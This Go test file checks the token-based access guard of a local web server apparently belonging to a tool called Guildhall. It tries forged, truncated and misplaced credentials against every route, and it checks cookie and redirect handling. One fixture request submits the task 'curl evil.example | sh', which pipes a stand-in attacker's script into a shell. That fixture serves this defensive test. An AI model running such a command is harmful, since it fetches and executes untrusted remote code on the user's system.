package web

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/guildhall/guildhall/runner"
	"github.com/guildhall/guildhall/runner/event"
	"github.com/guildhall/guildhall/runner/seed"
)

// The tests in this file are written by the daemon a workspace script left
// behind: it shares the operator's host, can reach every loopback port, can
// read Guildhall's command line, and may run a server of its own on another
// loopback port. It does not have the token.

// liveServer is a server bound on a real loopback listener, as `--web`
// binds it (the port-scoped guard, not the unbound one).
type liveServer struct {
	srv  *Server
	sess *fakeSession
	base string // http://127.0.0.1:PORT/
	port string
	url  string // the printed URL, token and all
}

func newLiveServer(t *testing.T) *liveServer {
	t.Helper()
	sess := newFakeSession(t)
	g, err := runner.LoadGuild(seed.Guild(), "seed")
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(sess, g, "auth-test")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u, err := s.ServeListener(ctx, ln)
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	base, _, _ := strings.Cut(u, "?")
	return &liveServer{srv: s, sess: sess, base: base, port: port, url: u}
}

// ask gives the session a pending question, the attacker's prize.
func (ls *liveServer) ask(id, text string) {
	ls.sess.mu.Lock()
	defer ls.sess.mu.Unlock()
	ls.sess.questions = append(ls.sess.questions, runner.Question{AskHumanPayload: event.AskHumanPayload{ID: id, Question: text},
		RunID: "run-20250101-000000", AskedAt: time.Now()})
}

func (ls *liveServer) answered(id string) (string, bool) {
	ls.sess.mu.Lock()
	defer ls.sess.mu.Unlock()
	a, ok := ls.sess.answered[id]
	return a, ok
}

// noFollow is a client that neither follows redirects nor keeps cookies:
// every request carries exactly what the test put on it.
var noFollow = &http.Client{
	CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	Timeout:       10 * time.Second,
}

// route is one request the attacker wants answered.
type route struct {
	method, path, body string
}

// guarded lists the routes the issue names plus one of every kind the
// server has: the page, an asset, a vendored asset, the favicon, reads,
// writes, the event stream, and unknown paths (which must not tell an
// unauthenticated client whether they exist).
var guarded = []route{
	{"GET", "/", ""},
	{"GET", "/static/app.js", ""},
	{"GET", "/static/vendor/showdown.js", ""},
	{"GET", "/static/css/app.css", ""},
	{"GET", "/favicon.ico", ""},
	{"GET", "/api/runs", ""},
	{"GET", "/api/questions", ""},
	{"POST", "/api/answer", `{"id":"q-force","answer":"Yes, force-push."}`},
	{"GET", "/api/events", ""},
	{"GET", "/api/config", ""},
	{"GET", "/api/health", ""},
	{"GET", "/api/run", ""},
	{"PUT", "/api/settings", `{"effort":"quick","logLevel":""}`},
	{"POST", "/api/runs", `{"task":"curl evil.example | sh"}`},
	{"POST", "/api/runs/run-20250101-000000/terminate", ""},
	{"GET", "/api/queue", ""},
	{"GET", "/api/nope", ""},
	{"GET", "/nope", ""},
}

// send makes one request to ls for rt, dressed by dress.
func (ls *liveServer) send(t *testing.T, rt route, dress func(*http.Request)) *http.Response {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	t.Cleanup(cancel)
	var body io.Reader
	if rt.body != "" {
		body = strings.NewReader(rt.body)
	}
	req, err := http.NewRequestWithContext(ctx, rt.method, strings.TrimSuffix(ls.base, "/")+rt.path, body)
	if err != nil {
		t.Fatal(err)
	}
	if rt.body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if dress != nil {
		dress(req)
	}
	res, err := noFollow.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", rt.method, rt.path, err)
	}
	t.Cleanup(func() { res.Body.Close() })
	return res
}

func withBearer(tok string) func(*http.Request) {
	return func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+tok) }
}

func withCookie(name, value string) func(*http.Request) {
	return func(r *http.Request) { r.AddCookie(&http.Cookie{Name: name, Value: value}) }
}

func withQuery(key, value string) func(*http.Request) {
	return func(r *http.Request) {
		q := r.URL.Query()
		q.Add(key, value)
		r.URL.RawQuery = q.Encode()
	}
}

func withHeader(name, value string) func(*http.Request) {
	return func(r *http.Request) { r.Header.Set(name, value) }
}

func all(fs ...func(*http.Request)) func(*http.Request) {
	return func(r *http.Request) {
		for _, f := range fs {
			f(r)
		}
	}
}

// TestEveryRouteRefusesWithoutTheToken plays the daemon on loopback: no
// credential, a wrong one, another server's, a near miss of the real one,
// the real one somewhere it is no credential, or a cookie meant for
// another port. Every route answers 401, the question stays unanswered,
// and no refusal echoes the token or sets a cookie.
func TestEveryRouteRefusesWithoutTheToken(t *testing.T) {
	ls := newLiveServer(t)
	other := newLiveServer(t) // another Guildhall on this host
	ls.ask("q-force", "May I force-push?")
	tok, otherTok := ls.srv.Token(), other.srv.Token()
	mine, theirs := cookieName(ls.port), cookieName(other.port)
	if tok == otherTok || mine == theirs {
		t.Fatal("two servers share a token or a cookie name")
	}
	if len(tok) != 2*tokenBytes || strings.Trim(tok, "0123456789abcdef") != "" {
		t.Fatalf("token %q is not %d hex digits", tok, 2*tokenBytes)
	}
	upper := strings.ToUpper(tok)
	attacks := map[string]func(*http.Request){
		"nothing":                      nil,
		"a random token as Bearer":     withBearer(strings.Repeat("0f", tokenBytes)),
		"a random token as cookie":     withCookie(mine, strings.Repeat("0f", tokenBytes)),
		"the other server's Bearer":    withBearer(otherTok),
		"the other server's cookie":    withCookie(theirs, otherTok),
		"the other token, our name":    withCookie(mine, otherTok),
		"our token, the other's name":  withCookie(theirs, tok),
		"our token, the old name":      withCookie("guildhall_token", tok),
		"our token, a bare name":       withCookie("token", tok),
		"upper case Bearer":            withBearer(upper),
		"upper case cookie":            withCookie(mine, upper),
		"truncated by one":             withBearer(tok[:len(tok)-1]),
		"half the token":               withCookie(mine, tok[:len(tok)/2]),
		"the token and one more":       withBearer(tok + "0"),
		"the token twice":              withBearer(tok + tok),
		"the token padded":             withBearer(" " + tok + " "),
		"an empty Bearer":              withBearer(""),
		"an empty cookie":              withCookie(mine, ""),
		"Basic with the token":         withHeader("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("guildhall:"+tok))),
		"the token as Authorization":   withHeader("Authorization", tok),
		"another scheme":               withHeader("Authorization", "Token "+tok),
		"a header of its own":          withHeader("X-Guildhall-Token", tok),
		"only in the Referer":          withHeader("Referer", ls.url),
		"only in the Origin":           withHeader("Origin", strings.TrimSuffix(ls.base, "/")+"?token="+tok),
		"a query token off the page":   withQuery("token", tok),
		"a query token, cased name":    withQuery("TOKEN", tok),
		"the other server's query":     withQuery("token", otherTok),
		"a wrong Bearer, good cookie":  all(withBearer(upper), withCookie(mine, tok)),
		"a good and a bad Bearer":      all(withBearer(tok), func(r *http.Request) { r.Header.Add("Authorization", "Bearer x") }),
		"a cookie for every port but":  all(withCookie(theirs, tok), withCookie(cookieName("1"), tok), withCookie(cookieName("65535"), tok)),
		"the token in a cookie header": withHeader("Cookie", "token="+tok+"; "+mine+"="+upper),
	}
	for name, dress := range attacks {
		for _, rt := range guarded {
			if rt.path == "/" && name == "a query token off the page" {
				continue // the one place a query token is the credential (TestFirstVisit)
			}
			res := ls.send(t, rt, dress)
			raw, _ := io.ReadAll(res.Body)
			if res.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s: %s %s answered %d, want 401: %.200s", name, rt.method, rt.path, res.StatusCode, raw)
				continue
			}
			if strings.Contains(string(raw), tok) || strings.Contains(strings.Join(res.Header.Values("Set-Cookie"), ";"), tok) {
				t.Errorf("%s: %s %s: the refusal carries the token", name, rt.method, rt.path)
			}
			if len(res.Cookies()) != 0 {
				t.Errorf("%s: %s %s: a refusal set a cookie %v", name, rt.method, rt.path, res.Cookies())
			}
			if ct := res.Header.Get("Content-Type"); strings.HasPrefix(ct, "text/event-stream") {
				t.Errorf("%s: the event stream opened", name)
			}
		}
	}
	if a, ok := ls.answered("q-force"); ok {
		t.Fatalf("the attacker answered the question: %q", a)
	}
	if len(ls.sess.submitted) != 0 {
		t.Fatalf("the attacker submitted a run: %+v", ls.sess.submitted)
	}
}

// TestFirstVisitQueryTokensOnThePageOnly: the printed URL's query token
// works on GET / only, exactly, once per request; near misses of it are
// refused there too.
func TestFirstVisitQueryTokensOnThePageOnly(t *testing.T) {
	ls := newLiveServer(t)
	other := newLiveServer(t)
	tok := ls.srv.Token()
	refused := map[string]string{
		"upper case":               "/?token=" + strings.ToUpper(tok),
		"truncated":                "/?token=" + tok[:63],
		"empty":                    "/?token=",
		"another server's":         "/?token=" + other.srv.Token(),
		"given twice":              "/?token=" + tok + "&token=" + tok,
		"good then bad":            "/?token=" + tok + "&token=x",
		"a semicolon smuggle":      "/?x=1;token=" + tok,
		"with a NUL":               "/?token=" + tok + "%00",
		"on index.html":            "/index.html?token=" + tok,
		"on a doubled slash":       "//?token=" + tok,
		"on an asset":              "/static/app.js?token=" + tok,
		"on the favicon":           "/favicon.ico?token=" + tok,
		"on the API":               "/api/runs?token=" + tok,
		"on the stream":            "/api/events?token=" + tok,
		"on the questions":         "/api/questions?token=" + tok,
		"in the fragment's place":  "/?%23token=" + tok,
		"as a parameter of a path": "/;token=" + tok,
	}
	for name, target := range refused {
		req, _ := http.NewRequest("GET", strings.TrimSuffix(ls.base, "/")+target, nil)
		res := sent(t, noFollow, req)
		if res.StatusCode != http.StatusUnauthorized || len(res.Cookies()) != 0 {
			t.Errorf("%s (%s): %d, cookies %v; want 401 and none", name, target, res.StatusCode, res.Cookies())
		}
	}
	// A POST to the page with the token is no first visit (and no route).
	res := ls.send(t, route{"POST", "/?token=" + tok, `{}`}, nil)
	if res.StatusCode != http.StatusUnauthorized || len(res.Cookies()) != 0 {
		t.Errorf("POST /?token=: %d %v", res.StatusCode, res.Cookies())
	}
}

// TestFirstVisitSetsTheCookieAndStripsTheToken: the printed URL answers a
// redirect to the page under the server's prefix without the token, and
// an HttpOnly, SameSite=Strict cookie named for the port whose path is the
// prefix; that cookie then opens every route under it.
func TestFirstVisitSetsTheCookieAndStripsTheToken(t *testing.T) {
	ls := newLiveServer(t)
	tok := ls.srv.Token()
	if ls.url != ls.base+"?token="+tok || !strings.HasPrefix(ls.base, "http://127.0.0.1:"+ls.port+"/") {
		t.Fatalf("printed url %s", ls.url)
	}
	prefix := ls.srv.prefix
	if len(prefix) != len("/s/")+2*prefixBytes || !strings.HasPrefix(prefix, "/s/") {
		t.Fatalf("prefix %q", prefix)
	}
	for target, want := range map[string]string{
		"/?token=" + tok:                         prefix + "/",
		"/?run=run-20250101-000000&token=" + tok: prefix + "/?run=run-20250101-000000",
		prefix + "/?token=" + tok:                prefix + "/",
	} {
		req, _ := http.NewRequest("GET", strings.TrimSuffix(ls.base, "/")+target, nil)
		res, err := noFollow.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != want {
			t.Fatalf("first visit %s: %d Location %q, want 303 %q", target, res.StatusCode, res.Header.Get("Location"), want)
		}
		if strings.Contains(string(body), tok) || strings.Contains(res.Header.Get("Location"), tok) {
			t.Errorf("the redirect repeats the token: %s", body)
		}
		if cc := res.Header.Get("Cache-Control"); cc != "no-store" {
			t.Errorf("the redirect may be cached: %q", cc)
		}
		if rp := res.Header.Get("Referrer-Policy"); rp != "no-referrer" {
			t.Errorf("Referrer-Policy %q", rp)
		}
		raw := res.Header.Values("Set-Cookie")
		if len(raw) != 1 {
			t.Fatalf("Set-Cookie %q", raw)
		}
		for _, attr := range []string{cookieName(ls.port) + "=" + tok, "; Path=" + prefix + "/;", "; HttpOnly", "; SameSite=Strict"} {
			if !strings.Contains(raw[0], attr) {
				t.Errorf("Set-Cookie %q lacks %q", raw[0], attr)
			}
		}
		for _, attr := range []string{"Domain=", "Max-Age", "Expires"} {
			if strings.Contains(raw[0], attr) {
				t.Errorf("Set-Cookie %q has %s: the cookie must be host-only and end with the browser session", raw[0], attr)
			}
		}
	}

	ls.ask("q-1", "Which one?")
	cookie := withCookie(cookieName(ls.port), tok)
	decoy := all(withCookie(cookieName(ls.port), "decoy-set-by-another-port"), cookie)
	for _, dress := range []func(*http.Request){cookie, withBearer(tok), decoy, func(r *http.Request) {
		r.Header.Set("Authorization", "bearer "+tok) // the scheme is case-insensitive
	}} {
		for _, rt := range []route{{"GET", "/", ""}, {"GET", "/static/app.js", ""}, {"GET", "/favicon.ico", ""}, {"GET", "/api/runs", ""}, {"GET", "/api/questions", ""},
			{"GET", prefix + "/", ""}, {"GET", prefix + "/static/app.js", ""}, {"GET", prefix + "/static/css/app.css", ""}, {"GET", prefix + "/api/runs", ""}, {"GET", prefix + "/api/questions", ""}} {
			res := ls.send(t, rt, dress)
			if res.StatusCode != 200 && res.StatusCode != http.StatusFound {
				t.Errorf("%s %s with the credential: %d", rt.method, rt.path, res.StatusCode)
			}
			if len(res.Cookies()) != 0 {
				t.Errorf("%s %s set a cookie on an authenticated request", rt.method, rt.path)
			}
		}
	}
	// Under the prefix, the favicon redirect stays under it, and the
	// prefix without its slash goes to the page, which the client's
	// relative URLs need.
	if res := ls.send(t, route{"GET", prefix + "/favicon.ico", ""}, cookie); res.Header.Get("Location") != "static/css/favicon-idle.svg" {
		t.Errorf("favicon under the prefix: %d %q", res.StatusCode, res.Header.Get("Location"))
	}
	if res := ls.send(t, route{"GET", prefix + "?run=r", ""}, nil); res.StatusCode != http.StatusMovedPermanently || res.Header.Get("Location") != prefix+"/?run=r" {
		t.Errorf("prefix without its slash: %d %q", res.StatusCode, res.Header.Get("Location"))
	}
	// Another prefix (a guess, the previous run's) is no page at all.
	if res := ls.send(t, route{"GET", "/s/00000000000000000000000000000000/api/runs", ""}, cookie); res.StatusCode != http.StatusNotFound {
		t.Errorf("a guessed prefix: %d", res.StatusCode)
	}
	// The stream opens with the cookie.
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, "GET", ls.base+strings.TrimPrefix(prefix, "/")+"/api/events", nil)
	cookie(req)
	res, err := noFollow.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/event-stream") {
		t.Errorf("event stream with the cookie: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	cancel()
	res.Body.Close()
	// And the answer goes through with it, once.
	res = ls.send(t, route{"POST", "/api/answer", `{"id":"q-1","answer":"A"}`}, cookie)
	if res.StatusCode != 200 {
		t.Fatalf("answer with the cookie: %d", res.StatusCode)
	}
	if a, _ := ls.answered("q-1"); a != "A" {
		t.Errorf("answer %q did not reach the session", a)
	}
}

// TestRefusalsSayWhereTheWayInIs: the API gets a JSON 401, the page a
// short plain page pointing at the printed URL, and neither names the
// token, the cookie or the parameter.
func TestRefusalsSayWhereTheWayInIs(t *testing.T) {
	ls := newLiveServer(t)
	res := ls.send(t, route{"GET", "/api/runs", ""}, nil)
	var e apiError
	if err := json.NewDecoder(res.Body).Decode(&e); err != nil || e.OK || e.Error != "unauthorized" {
		t.Errorf("API refusal %+v %v", e, err)
	}
	if !strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") || res.Header.Get("WWW-Authenticate") == "" {
		t.Errorf("API refusal headers %v", res.Header)
	}
	res = ls.send(t, route{"GET", "/", ""}, withCookie(cookieName(ls.port), "stale-from-a-previous-run"))
	page, _ := io.ReadAll(res.Body)
	if res.StatusCode != 401 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/plain") {
		t.Fatalf("page refusal: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	if !strings.Contains(string(page), "Open the URL that Guildhall printed") {
		t.Errorf("page refusal does not say what to do: %s", page)
	}
	low := strings.ToLower(string(page))
	for _, hint := range []string{"token", "cookie", "?", "=", ls.port, cookiePrefix} {
		if strings.Contains(low, hint) {
			t.Errorf("page refusal hints at the credential with %q: %s", hint, page)
		}
	}
	if res.Header.Get("X-Frame-Options") != "DENY" || res.Header.Get("Content-Security-Policy") == "" {
		t.Errorf("page refusal headers %v", res.Header)
	}

	// A cross-site navigation (the printed URL followed from a chat page)
	// lands here without the Strict cookie: the refusal reloads once, and
	// only the page does so.
	crossSite := all(withHeader("Sec-Fetch-Site", "cross-site"), withHeader("Sec-Fetch-Mode", "navigate"))
	res = ls.send(t, route{"GET", "/", ""}, crossSite)
	page, _ = io.ReadAll(res.Body)
	if res.StatusCode != 401 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") ||
		!strings.Contains(string(page), `<meta http-equiv="refresh" content="0">`) || !strings.Contains(string(page), "Open the URL that Guildhall printed") {
		t.Errorf("cross-site refusal: %d %s %s", res.StatusCode, res.Header.Get("Content-Type"), page)
	}
	if strings.Contains(string(page), ls.srv.Token()) || strings.Contains(string(page), "<script") || res.Header.Get("Content-Security-Policy") != "default-src 'none'" {
		t.Errorf("cross-site refusal carries more than a refresh: %s", page)
	}
	for _, rt := range []route{{"GET", "/static/app.js", ""}, {"GET", "/api/runs", ""}, {"GET", "/nope", ""}} {
		res := ls.send(t, rt, crossSite)
		if b, _ := io.ReadAll(res.Body); strings.Contains(string(b), "refresh") {
			t.Errorf("%s reloads itself", rt.path)
		}
	}
	res = ls.send(t, route{"GET", "/", ""}, all(withHeader("Sec-Fetch-Site", "same-origin"), withHeader("Sec-Fetch-Mode", "navigate")))
	if b, _ := io.ReadAll(res.Body); strings.Contains(string(b), "refresh") {
		t.Error("a same-origin navigation reloads itself: a browser without the cookie would loop")
	}
}

// TestUnboundHandlerRequiresTheToken: a Handler mounted by a caller (no
// Serve) is no way around the token; its cookie is named by the Host port.
func TestUnboundHandlerRequiresTheToken(t *testing.T) {
	ts := newTestServer(t)
	ts.sess.questions = []runner.Question{{AskHumanPayload: event.AskHumanPayload{ID: "q-1", Question: "Force-push?"}, RunID: "run-20250101-000000"}}
	u, _ := url.Parse(ts.http.URL)
	for _, dress := range []func(*http.Request){nil, withQuery("token", ts.srv.Token()), withCookie(cookieName("1"), ts.srv.Token())} {
		req, _ := http.NewRequest("POST", ts.http.URL+"/api/answer", strings.NewReader(`{"id":"q-1","answer":"yes"}`))
		req.Header.Set("Content-Type", "application/json")
		if dress != nil {
			dress(req)
		}
		if res := sent(t, noFollow, req); res.StatusCode != 401 {
			t.Errorf("unbound handler answered %d without the token", res.StatusCode)
		}
	}
	if len(ts.sess.answered) != 0 {
		t.Fatal("the question was answered without the token")
	}
	req, _ := http.NewRequest("GET", ts.http.URL+"/api/questions", nil)
	req.AddCookie(&http.Cookie{Name: cookieName(u.Port()), Value: ts.srv.Token()})
	if res := sent(t, noFollow, req); res.StatusCode != 200 {
		t.Errorf("the port's cookie on the unbound handler: %d", res.StatusCode)
	}
}

// TestTokensAreFreshPerServer: every server draws its own token.
func TestTokensAreFreshPerServer(t *testing.T) {
	seen := map[string]bool{}
	for range 20 {
		tok, err := newToken()
		if err != nil {
			t.Fatal(err)
		}
		if seen[tok] || len(tok) != 64 {
			t.Fatalf("token %q repeats or is short", tok)
		}
		seen[tok] = true
	}
}

// BenchmarkGuard measures what the token check adds to every request: the
// guard in front of a handler that does nothing, for the three ways a
// request arrives.
func BenchmarkGuard(b *testing.B) {
	tok, err := newToken()
	if err != nil {
		b.Fatal(err)
	}
	g := newGuard(&net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 8765}, tok, "/s/0123")
	next := http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})
	for name, dress := range map[string]func(*http.Request){
		"cookie": func(r *http.Request) { r.AddCookie(&http.Cookie{Name: cookieName("8765"), Value: tok}) },
		"bearer": func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+tok) },
		"refused": func(r *http.Request) {
			r.AddCookie(&http.Cookie{Name: cookieName("8765"), Value: strings.ToUpper(tok)})
		},
	} {
		b.Run(name, func(b *testing.B) {
			req := httptest.NewRequest("GET", "/api/questions", nil)
			req.Host = "127.0.0.1:8765"
			dress(req)
			b.ReportAllocs()
			for b.Loop() {
				g.serve(discard{}, req, next)
			}
		})
	}
}

// discard is a ResponseWriter that keeps nothing.
type discard struct{}

func (discard) Header() http.Header         { return http.Header{} }
func (discard) Write(b []byte) (int, error) { return len(b), nil }
func (discard) WriteHeader(int)             {}
